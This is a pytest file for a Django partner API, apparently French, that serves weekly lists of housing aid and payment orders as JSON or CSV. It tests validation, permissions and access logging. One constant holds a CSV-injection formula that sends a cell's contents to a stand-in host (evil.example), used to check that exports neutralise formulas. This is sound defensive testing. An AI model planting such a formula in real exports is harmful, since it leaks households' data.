"""The SIAO and the CAF fetch their weekly list through the API (formats.md "Weekly lists")."""

import csv
import datetime
import io

import pytest

from directory.models import Organisation
from procedure.models import AccessLog
from tests.letters.factories import granted_on, payment_order_on
from tests.partner_api import client_with, partner, token_for

pytestmark = pytest.mark.django_db

SUNDAY = datetime.date(2026, 11, 15)  # 2026-W46 runs from Monday 9 to Sunday 15 November
NEXT_MONDAY = datetime.date(2026, 11, 16)
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'  # OWASP, CSV injection


@pytest.fixture
def siao_client(db):
    return client_with(token_for(partner(Organisation.Kind.SIAO))[1])


@pytest.fixture
def caf_client(db):
    return client_with(token_for(partner(Organisation.Kind.CAF))[1])


def test_siao_gets_the_concours_granted_in_the_week_as_json(siao_client):
    granted_on(SUNDAY, reference="DIMANCHE", household__adults=1, household__children=2)
    granted_on(NEXT_MONDAY, reference="LUNDI-SUIVANT")
    body = siao_client.get("/api/v1/listes/siao/2026-W46/").json()
    assert (body["liste"], body["semaine"], body["du"], body["au"]) == (
        "siao",
        "2026-W46",
        "2026-11-09",
        "2026-11-15",
    )
    [row] = body["lignes"]
    assert (row["reference"], row["date_octroi"], row["adultes"], row["enfants"]) == (
        "DIMANCHE",
        "2026-11-15",
        1,
        2,
    )
    assert row["veille_sociale"] == "requise"  # a minor child (Charte annexe 5)


def test_siao_list_as_csv_is_the_file_of_the_monday_mail(siao_client):
    granted_on(SUNDAY, reference="DIMANCHE")
    response = siao_client.get("/api/v1/listes/siao/2026-W46/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="liste-siao-2026-W46.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["reference", "nom", "prenom"]
    assert [row[0] for row in rows[1:]] == ["DIMANCHE"]


def test_caf_gets_the_commandements_de_payer_of_the_week(caf_client):
    payment_order_on(
        SUNDAY, reference="CP-DIMANCHE", debt="1234.5", household__benefit_claim_number="7654321"
    )
    payment_order_on(NEXT_MONDAY, reference="CP-LUNDI")
    [row] = caf_client.get("/api/v1/listes/caf/2026-W46/").json()["lignes"]
    assert (row["reference"], row["dette"], row["numero_allocataire"]) == (
        "CP-DIMANCHE",
        "1234.50",
        "7654321",
    )
    assert caf_client.get("/api/v1/listes/caf/2026-W47/").json()["lignes"][0]["reference"] == "CP-LUNDI"


def test_an_empty_week_is_an_empty_list(caf_client):
    assert caf_client.get("/api/v1/listes/caf/2026-W01/").json()["lignes"] == []


def test_a_badly_written_week_is_a_400_in_french(siao_client):
    response = siao_client.get("/api/v1/listes/siao/semaine-48/")
    assert response.status_code == 400
    assert response.json()["detail"].startswith("Semaine invalide")


@pytest.mark.parametrize("week", ["2025-W53", "2026-W00", "0000-W01"])
def test_a_well_written_week_that_is_not_in_the_calendar_is_not_found(siao_client, week):
    # 2025 has 52 ISO weeks (2026 has 53): the path names no list.
    response = siao_client.get(f"/api/v1/listes/siao/{week}/")
    assert response.status_code == 404
    assert response.json()["detail"].startswith("Semaine invalide")


def test_an_unknown_format_is_a_400_in_french(siao_client):
    response = siao_client.get("/api/v1/listes/siao/2026-W48/?format=xml")
    assert response.status_code == 400
    assert response.json()["detail"].startswith("Format inconnu")


def test_an_unknown_parameter_is_a_400_not_silently_ignored(siao_client):
    response = siao_client.get("/api/v1/listes/siao/2026-W48/?fromat=csv")
    assert response.status_code == 400
    assert "fromat" in response.json()["detail"]


def test_the_caf_cannot_read_the_siao_list(caf_client):
    granted_on(SUNDAY, reference="DIMANCHE")
    assert caf_client.get("/api/v1/listes/siao/2026-W46/").status_code == 403


def test_list_queries_stay_flat_as_rows_grow(siao_client, django_assert_max_num_queries):
    granted_on(SUNDAY, reference="A")
    with django_assert_max_num_queries(20) as two:
        siao_client.get("/api/v1/listes/siao/2026-W46/")
    for n in range(5):
        granted_on(SUNDAY, reference=f"B{n}")
    with django_assert_max_num_queries(len(two.captured_queries)):
        siao_client.get("/api/v1/listes/siao/2026-W46/")


def test_each_list_fetched_through_the_api_is_logged_with_its_organisation_and_row_count():
    """law.md, "Data protection": every read of households' data is logged, API reads too."""
    token, secret = token_for(partner(Organisation.Kind.SIAO))
    client = client_with(secret)
    granted_on(SUNDAY, reference="DIMANCHE")
    granted_on(SUNDAY, reference="DIMANCHE-BIS")
    client.get("/api/v1/listes/siao/2026-W46/")
    client.get("/api/v1/listes/siao/2026-W46/?format=csv")
    client.get("/api/v1/listes/siao/semaine-48/")  # refused: nothing read, nothing logged

    logged = AccessLog.objects.order_by("pk")
    assert [(entry.api_token, entry.user, entry.organisation, entry.detail) for entry in logged] == [
        (token, None, token.organisation, {"file": "liste-siao-2026-W46.json", "rows": 2}),
        (token, None, token.organisation, {"file": "liste-siao-2026-W46.csv", "rows": 2}),
    ]
    assert logged[0].reader == "API, jeton « système »"


def test_the_api_reads_show_in_the_access_log_and_its_export(administrator_client):
    token, secret = token_for(partner(Organisation.Kind.CAF))
    payment_order_on(SUNDAY, reference="CP-DIMANCHE")
    client_with(secret).get("/api/v1/listes/caf/2026-W46/")

    page = administrator_client.get("/journal-des-consultations/").content.decode()
    assert "API, jeton « système »" in page
    assert "liste hebdomadaire (API)" in page
    export = administrator_client.get("/journal-des-consultations/?format=csv").content.decode("utf-8-sig")
    assert "API, jeton « système »;Partenaire caf;liste hebdomadaire (API)" in export


def test_a_list_cell_written_as_a_formula_is_quoted_in_the_csv(siao_client):
    """OWASP CSV injection: an address typed as a formula reaches the CSV as text."""
    granted_on(SUNDAY, reference="DIMANCHE", lease__address=PAYLOAD)
    response = siao_client.get("/api/v1/listes/siao/2026-W46/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][3] == "'" + PAYLOAD
